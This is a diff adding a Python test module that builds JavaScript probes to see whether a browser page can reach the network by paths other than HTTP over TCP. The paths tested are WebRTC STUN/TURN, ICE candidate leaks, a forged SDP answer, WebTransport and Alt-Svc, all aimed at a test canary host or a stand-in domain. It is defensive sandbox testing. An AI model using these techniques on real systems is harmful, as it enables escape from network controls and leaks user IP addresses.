@@ -1,0 +1,73 @@
+"""Ways out that are not HTTP over TCP: WebRTC, WebTransport, alternative services."""
+
+from __future__ import annotations
+
+from tests.hostile.aim import Aim, Vector, script
+
+__all__ = ["beyond"]
+
+RTC_HOLD_S = 4.0
+TURN_HOLD_S = 9.0
+"""TURN over TCP is tried only after the others were waited for."""
+
+OFFER = "p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))"
+
+
+def beyond(aim: Aim) -> dict[str, Vector]:
+    """Vector by name."""
+    return _ice_servers(aim) | _peers(aim) | _services(aim)
+
+
+def _ice_servers(aim: Aim) -> dict[str, Vector]:
+    servers = {
+        "rtc-stun-udp": f"stun:{aim.host}:{aim.udp_port}",
+        "rtc-turn-udp": f"turn:{aim.host}:{aim.udp_port}?transport=udp",
+        "rtc-turn-tcp": f"turn:{aim.host}:{aim.port}?transport=tcp",
+        "rtc-turns": f"turns:{aim.host}:{aim.port}?transport=tcp",
+        "rtc-stun-name": "stun:leak1.example.org:3478",
+    }
+    return {
+        name: script(
+            "let p=new RTCPeerConnection({iceServers:"
+            f"[{{urls:'{url}',username:'{name}',credential:'b'}}]}});" + OFFER,
+            hold_s=TURN_HOLD_S if "turn" in name else RTC_HOLD_S,
+        )
+        for name, url in servers.items()
+    }
+
+
+def _peers(aim: Aim) -> dict[str, Vector]:
+    show = "p.onicecandidate=e=>{if(e.candidate)document.title+=' '+e.candidate.candidate};"
+    return {
+        "rtc-candidate": script(_connect_to(aim), hold_s=RTC_HOLD_S),
+        "rtc-leak": script("let p=new RTCPeerConnection();" + show + OFFER, hold_s=RTC_HOLD_S),
+    }
+
+
+def _connect_to(aim: Aim) -> str:
+    """Two peers in one page; the answer of one is given the canary's address as its own."""
+    udp = f"1 1 udp 2113937151 127.0.0.1 {aim.udp_port} typ host"
+    tcp = f"2 1 tcp 1518214911 127.0.0.1 {aim.port} typ host tcptype passive"
+    lines = f"a=candidate:{udp}\\r\\na=candidate:{tcp}\\r\\na=end-of-candidates\\r\\n"
+    return f"""(async()=>{{
+let p=new RTCPeerConnection(),q=new RTCPeerConnection();
+p.createDataChannel('x');
+await p.setLocalDescription(await p.createOffer());
+await q.setRemoteDescription(p.localDescription);
+await q.setLocalDescription(await q.createAnswer());
+let s=q.localDescription.sdp.replace(/a=candidate.*\\r\\n/g,'');
+s=s.replace(/a=end-of-candidates\\r\\n/,'')+'{lines}';
+await p.setRemoteDescription({{type:'answer',sdp:s}});
+for(let c of ['candidate:{udp}','candidate:{tcp}'])
+  p.addIceCandidate({{candidate:c,sdpMid:'0',sdpMLineIndex:0}});
+}})()"""
+
+
+def _services(aim: Aim) -> dict[str, Vector]:
+    hashes = "{serverCertificateHashes:[{algorithm:'sha-256',value:new Uint8Array(32)}]}"
+    transport = f"new WebTransport('https://{aim.host}:{aim.udp_port}/webtransport',{hashes})"
+    alternatives = f'h3="127.0.0.1:{aim.udp_port}"; ma=600, h2="127.0.0.1:{aim.port}"; ma=600'
+    return {
+        "webtransport": script(f"try{{{transport}}}catch(e){{document.title='ERR '+e}}", hold_s=RTC_HOLD_S),
+        "alt-svc": script("setTimeout(()=>location.reload(),300)", headers={"Alt-Svc": alternatives}),
+    }
